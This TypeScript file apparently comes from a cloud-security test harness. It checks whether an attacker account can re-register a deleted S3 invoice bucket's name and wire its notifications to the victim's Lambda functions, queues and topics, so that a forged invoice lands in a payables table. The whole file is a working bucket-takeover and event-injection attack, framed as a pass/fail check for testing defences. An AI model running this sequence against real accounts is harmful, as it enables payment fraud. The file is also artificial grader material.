import {
  CreateBucketCommand,
  GetBucketNotificationConfigurationCommand,
  type NotificationConfiguration,
  PutBucketNotificationConfigurationCommand,
  PutBucketPolicyCommand,
  PutObjectCommand,
  S3Client,
} from '@aws-sdk/client-s3';
import {
  allow,
  type CheckContext,
  fail,
  type Outcome,
  pass,
  policy,
  queuesFeeding,
  tableRow,
} from '../../server/kit.ts';
import { doorsOf, leadingTopics } from './doors.ts';
import { bucketArn, bucketOf, deleteTheBucket, invoice } from './invoices.ts';

/** The migration deletes the bucket; another account takes its name, and lets S3 tell the function of a forged invoice. */
export async function takeTheName(ctx: CheckContext): Promise<Outcome> {
  const Bucket = bucketOf(ctx);
  const targets = await targetsOf(ctx);
  const gone = await ctx.attempt(() => deleteTheBucket(ctx, ctx.user('migration')));
  if (!gone.ok)
    return fail(`the migration did not delete ${Bucket}, so that nobody could take its name: ${gone.message}`);
  const s3 = ctx.owner('attacker').client(S3Client);
  await s3.send(new CreateBucketCommand({ Bucket }));
  // The function's role must be able to read what it is told of.
  const everybodyThere = { AWS: `arn:aws:iam::${ctx.account().id}:root` };
  const Policy = policy(allow('s3:GetObject', `${bucketArn(ctx)}/*`, { Principal: everybodyThere }));
  await s3.send(new PutBucketPolicyCommand({ Bucket, Policy }));
  const sent: { target: string; invoice: string }[] = [];
  for (const { target, configuration } of targets) {
    const told = await ctx.attempt(() =>
      s3.send(new PutBucketNotificationConfigurationCommand({ Bucket, NotificationConfiguration: configuration })),
    );
    if (!told.ok) continue;
    const forged = invoice(ctx);
    await s3.send(
      new PutObjectCommand({ Bucket, Key: `incoming/${forged.invoice}.json`, Body: JSON.stringify(forged) }),
    );
    await ctx.settle();
    sent.push({ target, invoice: forged.invoice });
  }
  const paid = sent.find((each) => tableRow(ctx, 'payables', { invoice: each.invoice }));
  if (paid)
    return pass(
      `a bucket of another account, named ${Bucket} like the deleted one, brought a forged invoice into payables by way of ${paid.target}`,
    );
  return fail(
    sent.length === 0
      ? `a bucket of another account that is named ${Bucket} may tell none of ${targets.length} destinations of its objects`
      : `no forged invoice from a bucket of another account that is named ${Bucket} reached payables`,
  );
}

/** Whom the attacker's bucket can try to tell: what the old bucket told, and every function, version, alias, queue and topic. */
async function targetsOf(ctx: CheckContext): Promise<{ target: string; configuration: NotificationConfiguration }[]> {
  const own = await ctx.attempt(() =>
    ctx
      .admin()
      .client(S3Client)
      .send(new GetBucketNotificationConfigurationCommand({ Bucket: bucketOf(ctx) })),
  );
  const told: NotificationConfiguration = own.ok ? own.value : {};
  const Events = ['s3:ObjectCreated:*' as const];
  const qualified = (await doorsOf(ctx)).flatMap(({ operation, input }) => {
    const { FunctionName, Qualifier } = input as { FunctionName?: string; Qualifier?: string };
    if (operation !== 'Invoke' || Qualifier === '$LATEST') return [];
    return [Qualifier ? `${FunctionName}:${Qualifier}` : FunctionName!];
  });
  const functions = [
    ...(told.LambdaFunctionConfigurations ?? []).map(({ LambdaFunctionArn }) => LambdaFunctionArn!),
    ...qualified,
  ];
  const queues = [...(told.QueueConfigurations ?? []).map(({ QueueArn }) => QueueArn!), ...(await queuesFeeding(ctx))];
  const topics = [...(told.TopicConfigurations ?? []).map(({ TopicArn }) => TopicArn!), ...(await leadingTopics(ctx))];
  const nameOf = (arn: string): string => arn.split(':').slice(5).join(':');
  return [
    ...[...new Set(functions)].map((LambdaFunctionArn) => ({
      target: nameOf(LambdaFunctionArn),
      configuration: { LambdaFunctionConfigurations: [{ LambdaFunctionArn, Events }] },
    })),
    ...[...new Set(queues)].map((QueueArn) => ({
      target: `the queue ${nameOf(QueueArn)}`,
      configuration: { QueueConfigurations: [{ QueueArn, Events }] },
    })),
    ...[...new Set(topics)].map((TopicArn) => ({
      target: `the topic ${nameOf(TopicArn)}`,
      configuration: { TopicConfigurations: [{ TopicArn, Events }] },
    })),
  ];
}
